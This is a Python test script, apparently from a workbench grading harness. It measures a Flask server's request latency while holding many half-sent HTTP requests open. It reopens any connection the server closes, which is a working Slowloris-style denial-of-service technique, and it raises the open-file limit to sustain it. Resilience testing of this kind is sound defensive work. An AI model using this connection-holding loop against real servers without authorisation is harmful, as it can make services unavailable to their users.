"""GET / while idle connections are held open to Flask; runs in the workbench (stdlib only).

    python3 flask_idle.py TOKEN IDLE GETS [HOST PORT]

Opens IDLE connections that each send half a request ("GET / HTTP/1.1", one header, no blank
line) and then wait, and keeps IDLE of them open: one the server closes is opened again, as a
real attacker would. Meanwhile it times GETS requests for /?idle=TOKEN-N, one after another,
each on a new connection, as a learner's would be. Prints one JSON line: the latencies'
p50/p99/max in ms, how many requests failed (and the first error), and how many of the idle
connections the server closed.
"""

import json
import resource
import socket
import sys
import threading
import time

token, idle, gets = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
addr = (sys.argv[4] if len(sys.argv) > 4 else "flask", int(sys.argv[5]) if len(sys.argv) > 5 else 5000)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, idle + 256)), hard))
HALF = b"GET / HTTP/1.1\r\nHost: x\r\n"  # no blank line: the request never ends

counts = {"idle_opened": 0, "idle_closed_by_server": 0}
held: list[socket.socket] = []
stop = threading.Event()


def open_idle() -> socket.socket:
    s = socket.create_connection(addr, timeout=10)
    s.sendall(HALF)
    s.setblocking(False)
    counts["idle_opened"] += 1
    return s


def closed(s: socket.socket) -> bool:
    try:
        return s.recv(1 << 16) == b""  # EOF: the server closed it
    except BlockingIOError:
        return False
    except OSError:
        return True


def hold() -> None:
    """Keep IDLE connections open: open them, then reopen whichever the server closed."""
    while len(held) < idle and not stop.is_set():
        held.append(open_idle())
    while not stop.is_set():
        for i, s in enumerate(held):
            if stop.is_set():
                break
            if closed(s):
                counts["idle_closed_by_server"] += 1
                s.close()
                try:
                    held[i] = open_idle()
                except OSError:
                    time.sleep(0.01)
        time.sleep(0.05)


def get(n: int) -> float:
    started = time.monotonic()
    with socket.create_connection(addr, timeout=10) as s:
        s.sendall(f"GET /?idle={token}-{n} HTTP/1.0\r\nHost: x\r\n\r\n".encode())
        reply = b""
        while chunk := s.recv(65536):
            reply += chunk
    if not reply.endswith(b"Hello World!"):
        raise ValueError(f"unexpected reply {reply[:60]!r}")
    return (time.monotonic() - started) * 1000


holding = threading.Thread(target=hold, daemon=True)
holding.start()
while len(held) < idle and holding.is_alive():  # all of them held before the first GET
    time.sleep(0.05)
held_at_start = len(held)
latencies, errors = [], []
for n in range(gets):
    try:
        latencies.append(get(n))
    except (OSError, ValueError) as err:
        errors.append(f"{type(err).__name__}: {err}")
    time.sleep(0.05)
stop.set()
holding.join(timeout=10)
for s in held:
    s.close()
lat = sorted(latencies)


def pct(p: float) -> float | None:
    return round(lat[min(len(lat) - 1, int(p / 100 * len(lat)))], 1) if lat else None


print(json.dumps({
    "idle": idle, "held_at_start": held_at_start, **counts, "gets": gets, "answered": len(lat),
    "failed": len(errors), "first_error": errors[0] if errors else None,
    "p50_ms": pct(50), "p99_ms": pct(99), "max_ms": round(lat[-1], 1) if lat else None,
}))  # fmt: skip
